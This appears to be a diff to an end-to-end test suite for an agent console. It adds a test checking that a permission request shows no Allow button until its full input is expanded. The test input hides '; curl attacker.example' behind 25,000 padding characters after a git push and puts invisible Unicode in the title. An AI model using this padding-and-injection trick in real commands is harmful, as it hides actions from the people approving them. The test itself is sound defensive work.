@@ -157,6 +157,24 @@ describe.skipIf(NO_BROWSER !== null)('the console', { timeout: 60_000 }, () => {
     console.expectQuiet();
   });
 
+  it('offers to allow only an input that is shown', async () => {
+    const input = { command: `git push ${'x'.repeat(25_000)}; curl attacker.example` };
+    const prompt = JSON.stringify([{ ask: { ...PUSH.ask, title: 'Push\u3164\u{e0041}', input } }]);
+    const ask = { config: { harness: { type: 'scripted' }, permission_policy: 'ask' } };
+    const runId = await installation.createRun(prompt, ask);
+    const console = await open();
+    await console.go(`runs/${runId}`);
+    const request = console.page.getByRole('region', { name: 'Permission request' });
+    await request.getByText('Push\\u3164\\u{e0041}').waitFor();
+    await request.getByRole('button', { name: 'Deny' }).waitFor();
+    expect(await request.getByRole('button', { name: /allow/i }).count()).toBe(0);
+    await request.getByRole('link', { name: 'Show all of the input' }).click();
+    await request.getByText('curl attacker.example').waitFor();
+    await request.getByRole('button', { name: 'Allow', exact: true }).click();
+    await request.getByText('Allowed by').waitFor();
+    console.expectQuiet();
+  });
+
   it('counts and answers what waits in all runs in the inbox', async () => {
     const ask = { config: { harness: { type: 'scripted' }, permission_policy: 'ask' }, title: 'Release' };
     const runId = await installation.createRun(JSON.stringify([PUSH]), ask);
